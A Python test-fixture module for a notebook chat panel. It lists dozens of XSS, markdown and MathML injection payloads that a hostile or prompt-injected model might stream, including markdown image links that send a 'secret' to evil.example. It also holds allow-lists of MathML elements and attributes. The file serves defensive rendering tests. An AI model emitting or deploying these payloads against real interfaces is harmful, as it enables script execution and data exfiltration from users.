"""Replies a hostile (or prompt-injected) model could stream into the panel.

Every payload that would run code tries ``window.__pwned++`` or ``alert(...)``; every one
that would load something points at ``evil.example`` (or another outside host). The
browser test streams them through the real provider → server → panel path and asserts
that nothing ran, no dialog opened and no request left 127.0.0.1.
"""

from __future__ import annotations

PWN = "window.__pwned++"
EVIL = "http://evil.example"

HOSTILE: list[tuple[str, str]] = [
    # --- raw HTML that executes -----------------------------------------------------
    ("script tag", f"<script>{PWN}</script>"),
    ("script tag inline", f"before <script>{PWN};alert(1)</script> after"),
    ("script src", f'<script src="{EVIL}/x.js"></script>'),
    ("img onerror", f'<img src=x onerror="{PWN}">'),
    ("img onerror inline", 'text <img src="x" onerror="alert(document.domain)"> text'),
    ("svg onload", f'<svg onload="{PWN}"><circle r="5"/></svg>'),
    ("svg script", f"<svg><script>{PWN}</script></svg>"),
    ("body onload", f'<body onload="{PWN}">'),
    ("details ontoggle", f'<details open ontoggle="{PWN}"><summary>x</summary></details>'),
    ("div onmouseover", f'<div onmouseover="{PWN}" style="position:fixed;inset:0">hover</div>'),
    ("iframe src", f'<iframe src="{EVIL}/frame"></iframe>'),
    ("iframe srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
    ("iframe javascript", f'<iframe src="javascript:parent.{PWN}"></iframe>'),
    ("object data", f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y">'),
    (
        "style import",
        f"<style>@import url({EVIL}/x.css); body{{background:url({EVIL}/bg)}}</style>",
    ),
    ("style attribute url", f'<span style="background:url({EVIL}/leak?d=secret)">styled</span>'),
    ("link stylesheet", f'<link rel="stylesheet" href="{EVIL}/x.css">'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("base href", f'<base href="{EVIL}/">'),
    ("form action", f'<form action="{EVIL}/steal"><input name=q autofocus onfocus="{PWN}"></form>'),
    ("button formaction", f'<button formaction="javascript:{PWN}">go</button>'),
    ("video poster", f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4" onerror="{PWN}"></video>'),
    ("audio", f'<audio src="{EVIL}/a.mp3" autoplay onerror="{PWN}"></audio>'),
    ("math xlink", f'<math><a xlink:href="javascript:{PWN}">m</a></math>'),
    ("template", f"<template><img src=x onerror={PWN}></template>"),
    ("noscript mxss", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    ("unclosed tag stream", f'<img src=x onerror="{PWN}"'),
    ("comment breakout", f"<!--><img src=x onerror={PWN}>-->"),
    # --- markdown constructs ------------------------------------------------------------
    ("markdown javascript link", f"[click me](javascript:{PWN})"),
    ("markdown javascript link entity", "[click](&#106;avascript:alert(1))"),
    ("markdown javascript link case", "[click](JaVaScRiPt:alert(1))"),
    ("markdown javascript whitespace", "[click](java\tscript:alert(1))"),
    ("markdown data link", "[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("markdown vbscript link", "[vb](vbscript:msgbox(1))"),
    ("markdown image exfiltration", f"![x]({EVIL}/leak?d=secret)"),
    ("markdown image data svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("markdown image javascript", f"![x](javascript:{PWN})"),
    ("markdown image reference", f"![logo][ref]\n\n[ref]: {EVIL}/ref.png"),
    ("markdown image title breakout", f'![x]({EVIL}/a.png "title\\" onerror=\\"{PWN}")'),
    ("markdown link title breakout", f'[x]({EVIL}/ "t\\" onmouseover=\\"{PWN}")'),
    ("autolink", f"<{EVIL}/auto>"),
    ("autolink javascript", "<javascript:alert(1)>"),
    ("gfm bare url", "see www.evil.example/path and https://evil.example/x"),
    ("email autolink", "<evil@evil.example>"),
    ("html in link text", f"[<img src=x onerror={PWN}>](https://example.org)"),
    ("html entities", f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;img src=x onerror={PWN}&#62;"),
    ("code span html", f"`<script>{PWN}</script>`"),
    ("fenced html", f"```html\n<script>{PWN}</script>\n<img src=x onerror={PWN}>\n```"),
    (
        "table cell html",
        f"| a | b |\n|---|---|\n| <img src=x onerror={PWN}> | [x](javascript:alert(1)) |",
    ),
    ("nested list html", f"- item\n  - <svg onload={PWN}>\n  - ![i]({EVIL}/i.png)"),
    ("css url in style block", f"<style>.r3nb-panel{{background-image:url('{EVIL}/css')}}</style>"),
    ("fake class injection", '<div class="jp-Dialog r3nb-send hljs">x</div>'),
    ("id clobbering", '<a id="jupyter-config-data" name="jupyterapp">clobber</a>'),
    # --- math: typeset by r3nb into allow-listed MathML, or left as code ---------------
    ("math href", f"$\\href{{javascript:{PWN}}}{{click}}$"),
    ("math url", f"$$\\url{{javascript:{PWN}}}$$"),
    ("math html class", "$\\htmlClass{jp-Dialog}{y}$ and \\(\\htmlId{jupyter-config-data}{z}\\)"),
    ("math html data", f"$\\htmlData{{onclick={PWN}}}{{y}}$"),
    (
        "math style url",
        f"$\\style{{background:url({EVIL}/m)}}{{x}}$ $\\htmlStyle{{color:red}}{{y}}$",
    ),
    ("math color url", f"$\\color{{url({EVIL}/c)}}{{x}}$"),
    ("math includegraphics", f"\\[\\includegraphics{{{EVIL}/i.png}}\\]"),
    ("math img", f"$<img src=x onerror={PWN}>$"),
    ("math breakout", f"$$</math><img src=x onerror={PWN}>$$"),
    ("math text html", f"$\\text{{<img src=x onerror={PWN}>}}$"),
    ("math huge sizes", "$\\rule{100000em}{100000em}$ $\\kern{100000em}$ $\\hspace{1000cm}$"),
    ("math macro loop", "$\\def\\a{\\a\\a}\\a$"),
    ("math deep nesting", "$$" + "\\frac{" * 80 + "x" + "}{y}" * 80 + "$$"),
    ("math too long", "$" + "x+" * 1001 + "y$"),
    (
        "raw math maction",
        f'<math><maction actiontype="statusline"><mtext>{PWN}</mtext></maction></math>',
    ),
    ("raw math href", f'<math href="javascript:{PWN}"><mi>x</mi></math>'),
    (
        "raw math annotation-xml",
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={PWN}>'
        "</annotation-xml></math>",
    ),
]

#: Every MathML element a reply's output may hold, and only inside a ``<math>`` typeset by
#: r3nb (an independent copy of the renderers' allow-lists: widening theirs fails here).
MATHML_ELEMENTS = frozenset({
    "math", "semantics", "annotation", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace",
    "msup", "msub", "msubsup", "mfrac", "msqrt", "mroot", "mover", "munder", "munderover",
    "mtable", "mtr", "mtd", "mstyle", "mpadded", "mphantom", "menclose", "merror",
    "mmultiscripts", "mprescripts", "none",
})  # fmt: skip
#: Their attributes: layout only.
MATHML_ATTRIBUTES = frozenset({
    "display", "displaystyle", "scriptlevel", "mathvariant", "mathcolor", "mathbackground",
    "stretchy", "fence", "separator", "form", "largeop", "movablelimits", "symmetric",
    "accent", "accentunder", "lspace", "rspace", "minsize", "maxsize", "width", "height",
    "depth", "voffset", "linethickness", "notation", "columnalign", "rowalign",
    "columnspacing", "rowspacing", "columnlines", "rowlines", "frame", "framespacing",
    "equalrows", "equalcolumns", "columnspan", "rowspan", "encoding",
})  # fmt: skip

assert len(HOSTILE) >= 30
